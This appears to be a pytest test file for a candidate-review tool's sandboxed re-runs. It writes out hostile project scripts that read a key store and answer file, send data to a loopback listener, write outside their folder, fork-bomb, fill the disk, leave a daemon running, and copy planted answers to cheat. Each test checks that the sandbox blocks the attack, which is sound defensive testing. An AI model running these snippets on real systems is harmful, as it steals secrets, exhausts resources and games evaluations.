"""Hostile candidate projects, re-run in the bubblewrap sandbox in one review batch.

Eight projects (copies of an issued project, the sample submission as their own) whose
``make run`` attacks the reviewer: it reads the key store, connects to a listener on
127.0.0.1, writes outside its copy, forks without end, fills the disk, sleeps for ever, or
leaves a daemon behind; or, in the candidate's own run, reads a file of answers planted on
the reviewer's disk and submits perfect predictions (its re-run cannot see the file). A ninth,
no attack but an honest mistake, imports a package its pyproject.toml does not declare
(installed by hand on the candidate's machine): its re-run gives that import as the reason it
failed; its twin declares the package, which its re-run installs. Each
attack writes ``ATTACK <name>: blocked (...)`` or ``... SUCCEEDED`` in its log and, where it
can, the sample submission, so the batch goes on. Every test checks from outside that the
attack failed: the listener saw nothing, no file appeared, no byte of the answers reached
any output, no process outlived its step, the planted answers did not rank.
"""

from __future__ import annotations

import csv
import json
import os
import shutil
import socket
import subprocess
import sys
import threading
import uuid
from pathlib import Path
from types import SimpleNamespace

import pytest
from conftest import NLBSE24_SIZE, casekit, needs_mirror

from casekit.instances.keystore import ANSWERS_FILE

pytestmark = pytest.mark.slow

# Not a casekit dependency, nor in the closure of its requirements: the re-run's environment lacks it.
UNDECLARED = "xgboost"
# xgboost without the hundreds of MB of CUDA libraries of xgboost's Linux wheel (a 6 MB wheel).
DECLARED = "xgboost-cpu>=2.1"
TIME_LIMIT = 20  # seconds per step: each attack ends (or is stopped) within seconds, but for the sleeper
DISK_LIMIT_MB = 256
PROCESS_LIMIT = 64

PROLOGUE = """\
import os, shutil, socket, subprocess, sys, time
from pathlib import Path

def done(name, blocked, detail=""):
    print(f"ATTACK {name}: {'blocked' if blocked else 'SUCCEEDED'} ({detail})", flush=True)
    Path("submission").mkdir(exist_ok=True)
    shutil.copyfile("data/sample_submission.csv", "submission/predictions.csv")
"""

ATTACKS = {
    "keys": """
stolen = b""
for path in [{answers!r}, {keys!r}, os.path.expanduser("~/.local/share/casekit/keys")]:
    try:
        if os.path.isdir(path):
            stolen += repr(os.listdir(path)).encode()
        else:
            stolen += Path(path).read_bytes()
    except OSError as error:
        print("cannot read", path, error)
Path("submission").mkdir(exist_ok=True)
print(stolen.decode(errors="replace"))
done("keys", not stolen, f"{{len(stolen)}} bytes read")
if stolen:
    Path("submission/predictions.csv").write_bytes(stolen)
""",
    "network": """
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=5).sendall(b"stolen")
    done("network", False, "connected")
except OSError as error:
    done("network", True, error)
""",
    "writes": """
written = []
targets = [{outside!r}, str(Path(sys.executable).parent / "casekit-pwned"), "/usr/casekit-pwned", "/casekit-pwned",
           os.path.expanduser("~/../casekit-pwned")]
for path in targets:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)  # lands in the sandbox's private /tmp, if anywhere
        Path(path).write_text("pwned")
        written.append(path)
    except OSError as error:
        print("cannot write", path, error)
done("writes", all(path.startswith("/tmp/") for path in written), written)
""",
    "fork-bomb": """
children = 0
try:
    while True:
        if os.fork() == 0:
            time.sleep(30)  # hold the slot, as a bomb's processes do
            os._exit(0)
        children += 1
except OSError as error:
    done("fork-bomb", children < {limit}, f"fork refused after {{children}} children: {{error}}")
""",
    "disk": """
Path("filler").mkdir()
for number in range(10_000):  # 16 MB files: no one file reaches the per-file limit
    Path(f"filler/{{number}}").write_bytes(os.urandom(1 << 20) * 16)
done("disk", False, "wrote 160 GB")
""",
    "sleeper": """
time.sleep(10 ** 6)
done("sleeper", False, "woke up")
""",
    "reads-answers": """
planted = Path({planted!r})
if os.access(planted, os.R_OK):  # the candidate's own run, on the disk where the answers were left
    Path("submission").mkdir(exist_ok=True)
    shutil.copyfile(planted, "submission/predictions.csv")
    print("ATTACK reads-answers: SUCCEEDED (copied the planted answers)", flush=True)
else:
    done("reads-answers", True, "the planted answers are not in sight")
""",
    "daemon": """
subprocess.Popen([sys.executable, "-c", "import time\\nwhile True: time.sleep(1)", {token!r}],
                 start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL)
done("daemon", True, "the daemon is left running; the sandbox must end it")
""",
}


class Listener:
    """A TCP listener on 127.0.0.1 that records every connection it accepts."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.connections: list[bytes] = []
        self.running = True
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while self.running:
            try:
                connection, _ = self.server.accept()
            except OSError:
                continue
            with connection:
                self.connections.append(connection.recv(1024))

    def close(self) -> None:
        self.running = False
        self.thread.join()
        self.server.close()


def hostile_project(honest: Path, destination: Path, name: str, code: str) -> Path:
    shutil.copytree(honest, destination, ignore=shutil.ignore_patterns("mlflow.db", "mlruns", "evaluation"))
    (destination / "Makefile").write_text(f"PYTHON ?= python\ntest:\n\ttrue\nrun:\n\t$(PYTHON) attack_{name}.py\n")
    (destination / f"attack_{name}.py").write_text(PROLOGUE + code)
    return destination


def descendants_with(token: str) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if token.encode() in (entry / "cmdline").read_bytes():
                    found.append(int(entry.name))
            except OSError:
                pass
    return found


@pytest.fixture(scope="module")
def batch(tmp_path_factory) -> SimpleNamespace:
    needs_mirror()
    root = tmp_path_factory.mktemp("hostile-reruns")
    keys = root / "key-store"
    honest = root / "ada"
    casekit("new", "tickets", "--source", "nlbse24", *NLBSE24_SIZE,
            "--seed", "31", "--keys-dir", keys, "--candidate", "Ada",
            "-o", honest, check=True)
    # The honest re-run in the sandbox is test_review's; here the attacks are what is re-run.
    (honest / "submission").mkdir(exist_ok=True)
    shutil.copy(honest / "data" / "sample_submission.csv", honest / "submission" / "predictions.csv")
    answers = next(keys.rglob(ANSWERS_FILE))
    listener = Listener()
    token = f"casekit-daemon-{uuid.uuid4().hex}"
    outside = root / "written-from-the-sandbox"
    venv_root = Path(os.environ["CASEKIT_VENV_DIR"])
    planted = Path(shutil.copy(answers, root / "planted-answers.csv"))  # perfect predictions, outside the key store
    values = {"answers": str(answers), "keys": str(keys), "port": listener.port, "outside": str(outside),
              "limit": PROCESS_LIMIT, "token": token, "planted": str(planted)}
    inputs = []
    for name, code in ATTACKS.items():
        hostile_project(honest, root / "projects" / name, name, code.format(**values))
        inputs.append(f"{name}={root / 'projects' / name}")
    undeclared = root / "projects" / "undeclared"
    shutil.copytree(honest, undeclared, ignore=shutil.ignore_patterns("mlflow.db", "mlruns", "evaluation"))
    (undeclared / "Makefile").write_text("PYTHON ?= python\ntest:\n\ttrue\nrun:\n"
                                         "\t$(PYTHON) -m tickets_solution.pipeline\n")
    pipeline = undeclared / "src" / "tickets_solution" / "pipeline.py"
    pipeline.write_text(pipeline.read_text().replace("import pandas as pd\n",
                                                     f"import pandas as pd\nimport {UNDECLARED}\n", 1))
    inputs.append(f"undeclared={undeclared}")
    # Its twin declares the package: the re-run installs it and reproduces the submission.
    declared = root / "projects" / "declared"
    shutil.copytree(undeclared, declared)
    pyproject = declared / "pyproject.toml"
    pyproject.write_text(pyproject.read_text().replace('"casekit",', f'"casekit", "{DECLARED}",', 1))
    (declared / "Makefile").write_text("PYTHON ?= python\ntest:\n\ttrue\nrun:\n\t$(PYTHON) run_declared.py\n")
    (declared / "run_declared.py").write_text(
        f"import shutil\nimport {UNDECLARED}\n\nprint({UNDECLARED}.__version__)\n"
        "shutil.copyfile('data/sample_submission.csv', 'submission/predictions.csv')\n")
    inputs.append(f"declared={declared}")
    # The cheater's own run, as the candidate made it: the planted answers become its submission.
    subprocess.run([sys.executable, "attack_reads-answers.py"], cwd=root / "projects" / "reads-answers", check=True,
                   capture_output=True)
    output = root / "review"
    try:
        result = casekit("review", *inputs, "--rerun", "--jobs", "2", "--time-limit", TIME_LIMIT,
                         "--disk-limit", DISK_LIMIT_MB, "--process-limit", PROCESS_LIMIT, "--keys-dir", keys,
                         "--no-track", "-o", output)
    finally:
        listener.close()
    survivors = descendants_with(token)
    for pid in survivors:  # leave nothing behind, even when the test fails
        os.kill(pid, 9)
    return SimpleNamespace(result=result, output=output, answers=answers, listener=listener, outside=outside,
                           venv_root=venv_root, survivors=survivors)


def review_of(batch: SimpleNamespace, slug: str) -> dict:
    folder = sorted((batch.output / "candidates" / slug).iterdir())[-1]
    return json.loads((folder / "review.json").read_text()) | {"folder": folder}


def pipeline_log(batch: SimpleNamespace, slug: str) -> str:
    return (review_of(batch, slug)["folder"] / "rerun" / "pipeline.log").read_text(errors="replace")


def test_the_batch_reviews_every_project_and_exits_0(batch):
    assert batch.result.returncode == 0, batch.result.stdout + batch.result.stderr
    reviews = json.loads((batch.output / "summary.json").read_text())["candidates"]
    assert len(reviews) == len(ATTACKS) + 2 and all(review["status"] == "scored" for review in reviews)


def test_the_key_store_is_not_in_the_sandbox_and_no_answer_byte_reaches_an_output(batch):
    log = pipeline_log(batch, "keys")
    assert "ATTACK keys: blocked (0 bytes read)" in log
    answers = batch.answers.read_bytes()
    rows = answers.splitlines()[1:]
    for path in batch.output.rglob("*"):
        if path.is_file():
            content = path.read_bytes()
            assert answers not in content and b"\n".join(rows[:5]) not in content, path


def test_a_connection_to_a_listener_on_the_loopback_fails(batch):
    assert "ATTACK network: blocked" in pipeline_log(batch, "network")
    assert batch.listener.connections == []


def test_writes_outside_the_copy_land_nowhere(batch):
    log = pipeline_log(batch, "writes")
    assert "SUCCEEDED" not in log and "Read-only file system" in log
    assert not batch.outside.exists()
    assert not list(batch.venv_root.rglob("casekit-pwned"))
    assert not Path("/usr/casekit-pwned").exists() and not Path("/casekit-pwned").exists()


def test_a_fork_bomb_meets_the_process_limit(batch):
    log = pipeline_log(batch, "fork-bomb")
    assert "ATTACK fork-bomb: blocked (fork refused after" in log
    children = int(log.split("fork refused after ")[1].split()[0])
    assert 0 < children < PROCESS_LIMIT


def test_filling_the_disk_is_stopped_at_the_disk_limit(batch):
    review = review_of(batch, "disk")
    assert review["rerun_status"] == "over disk limit"
    assert f"{DISK_LIMIT_MB} MB" in review["rerun_summary"]
    assert "SUCCEEDED" not in pipeline_log(batch, "disk")


def test_a_pipeline_that_sleeps_for_ever_is_stopped_at_its_time_limit(batch):
    review = review_of(batch, "sleeper")
    assert review["rerun_status"] == "timed out" and f"{TIME_LIMIT} s" in review["rerun_summary"]


def leaderboard_row(batch: SimpleNamespace, name: str) -> dict:
    with (batch.output / "leaderboard.csv").open(newline="") as stream:
        return next(row for row in csv.DictReader(stream) if row["candidate"] == name)


def test_a_candidate_who_read_planted_answers_is_ranked_on_what_its_rerun_reproduces(batch):
    cheat, honest = leaderboard_row(batch, "reads-answers"), leaderboard_row(batch, "keys")
    assert float(cheat["submitted_value"]) == 1.0
    assert cheat["value"] == cheat["rerun_value"] == honest["value"]  # both re-ran to the sample submission
    assert cheat["rank"] and cheat["tier"] == honest["tier"] == "1" and "keys" in cheat["not_told_from"]
    assert float(cheat["rerun_difference"]) == pytest.approx(float(cheat["rerun_value"]) - 1.0, abs=2e-4)
    assert cheat["verification"].startswith(f"submission not reproduced: ranked on the re-run's "
                                            f"{float(cheat['value']):.4f}; submitted 1.0000, difference -")
    assert cheat["metric_part"] == honest["metric_part"]


def test_the_cheaters_report_scores_the_reruns_predictions_and_keeps_the_submitted_scorecard(batch):
    folder = review_of(batch, "reads-answers")["folder"]
    scored = json.loads((folder / "scorecard.json").read_text())
    submitted = json.loads((folder / "submitted" / "scorecard.json").read_text())
    assert submitted["metrics"][0]["value"] == 1.0 and scored["metrics"][0]["value"] < 1.0
    assert "this report scores the re-run's predictions" in (folder / "report.html").read_text()


def test_a_rerun_that_fails_leaves_the_candidate_unranked_with_the_reason(batch):
    for name, reason in (("sleeper", f"timed out: the pipeline exceeded its time limit of {TIME_LIMIT} s"),
                         ("disk", "over disk limit: the pipeline wrote more than its disk limit")):
        row = leaderboard_row(batch, name)
        assert row["rank"] == row["tier"] == row["value"] == row["versus_baselines"] == ""
        assert row["tier_test"].startswith(f"not ranked: the re-run gave no predictions to score ({reason}")
        assert row["verification"].startswith("submission unproven") and float(row["metric_part"]) == 0.0


def test_a_rerun_that_fails_on_an_undeclared_import_gives_the_import_as_its_reason(batch):
    line = next(number for number, text in enumerate(
        (batch.output.parent / "projects" / "undeclared" / "src" / "tickets_solution" / "pipeline.py").read_text()
        .splitlines(), start=1) if text == f"import {UNDECLARED}")
    reason = (f"src/tickets_solution/pipeline.py:{line}: imports {UNDECLARED}, which pyproject.toml does not declare: "
              f"add it to [project] dependencies, then make install")
    review = review_of(batch, "undeclared")
    assert review["rerun_status"] == "failed" and review["rerun_summary"].endswith(f"): {reason}")
    assert "Traceback" not in review["rerun_summary"]
    assert leaderboard_row(batch, "undeclared")["tier_test"].startswith("not ranked: the re-run gave no predictions")


def test_a_project_that_declares_the_package_it_imports_is_not_warned_and_its_rerun_reproduces(batch):
    from casekit.review.dependencies import check_dependencies

    assert check_dependencies(batch.output.parent / "projects" / "declared").lines() == []
    review = review_of(batch, "declared")
    assert review["rerun_status"] == "reproduced", review["rerun_summary"]


def test_the_terminal_says_which_submissions_were_not_reproduced(batch):
    out = " ".join(batch.result.stdout.split())
    assert "Reproduced 6, not reproduced 1, unproven (not ranked) 3." in out


def test_a_daemon_does_not_outlive_its_step(batch):
    assert "ATTACK daemon: blocked" in pipeline_log(batch, "daemon")
    assert batch.survivors == []


def test_rerun_refuses_to_start_without_bubblewrap_and_names_the_cause(nlbse_project, tmp_path):
    tools = tmp_path / "bin"  # make and python, but no bwrap
    tools.mkdir()
    (tools / "make").symlink_to(shutil.which("make"))
    result = casekit("review", nlbse_project, "--rerun", "-o", tmp_path / "review",
                     env={"PATH": f"{tools}:{Path(sys.executable).parent}"})
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert "bwrap is not on PATH" in result.stderr and "--unsafe-no-sandbox" in result.stderr
    assert not (tmp_path / "review").exists()


def test_a_review_without_the_sandbox_says_so_in_every_report_and_review_json(nlbse_project, tmp_path):
    instance = json.loads((nlbse_project / "casekit.json").read_text())["instance_id"]
    bare = f"Carol={nlbse_project / 'data' / 'sample_submission.csv'}"
    result = casekit("review", bare, "--instance", instance, "--rerun", "--unsafe-no-sandbox", "--no-track",
                     "-o", tmp_path / "review")
    assert result.returncode == 0, result.stderr
    assert "WARNING: re-run WITHOUT a sandbox" in result.stderr
    folder = next((tmp_path / "review" / "candidates" / "carol").iterdir())
    assert "WITHOUT a sandbox" in json.loads((folder / "review.json").read_text())["rerun_isolation"]
    assert 'id="unsafe-rerun"' in (folder / "report.html").read_text()


def test_a_requirement_that_points_at_a_url_is_refused_before_pip_runs(tmp_path):
    from casekit.review.venvs import InstallError, project_requirements

    (tmp_path / "pyproject.toml").write_text('[project]\nname = "x"\ndependencies = ["evil @ https://example.invalid/'
                                             'evil-1.0.tar.gz"]\n')
    with pytest.raises(InstallError, match=r"points at https://example\.invalid/evil-1\.0\.tar\.gz.*wheels"):
        project_requirements(tmp_path)


def test_a_dependency_without_a_wheel_is_reported_as_such(tmp_path):
    from casekit.review.sandbox import StepResult
    from casekit.review.venvs import describe_install_failure

    tail = ("ERROR: Could not find a version that satisfies the requirement sdist-only-package==1.0 "
            "(from versions: none)\nERROR: No matching distribution found for sdist-only-package==1.0\n")
    step = StepResult("install", ["pip"], "failed", 1, 3.0, 50.0, tmp_path / "install.log", tail)
    assert describe_install_failure(step).startswith("no wheel of sdist-only-package==1.0 for this platform")


def test_when_uv_fails_pip_installs_and_its_error_is_reported(tmp_path, monkeypatch):
    # Stand-ins for the two installers: a real failure of both costs minutes of resolving.
    from casekit.review import venvs

    monkeypatch.setenv(venvs.VENV_DIR_ENV, str(tmp_path / "venvs"))
    monkeypatch.setattr(venvs, "uv_command", lambda python, packages: ["sh", "-c", "echo uv is broken; exit 2"])
    monkeypatch.setattr(venvs, "pip_command", lambda python, packages: [
        "sh", "-c", "echo 'ERROR: Could not find a version that satisfies the requirement sdist-only-package==1.0'; "
                    "exit 1"])
    with pytest.raises(venvs.InstallError, match=r"no wheel of sdist-only-package==1\.0") as raised:
        venvs.ensure_environment(["sdist-only-package==1.0"], install_time_limit=60)
    assert raised.value.step is not None and raised.value.step.command[0] == "sh"
    assert "uv is broken" not in raised.value.step.log_tail  # pip's run, not uv's
    assert [path.name for path in (tmp_path / "venvs").iterdir() if path.is_dir()] == ["wheels"]  # nothing half-built


def test_uv_is_given_pips_index_settings(monkeypatch):
    from casekit.review.venvs import uv_environment

    monkeypatch.setenv("PIP_INDEX_URL", "https://mirror.example/simple")
    monkeypatch.setenv("PIP_FIND_LINKS", "/opt/wheels")
    env = uv_environment()
    assert env["UV_DEFAULT_INDEX"] == "https://mirror.example/simple" and env["UV_FIND_LINKS"] == "/opt/wheels"
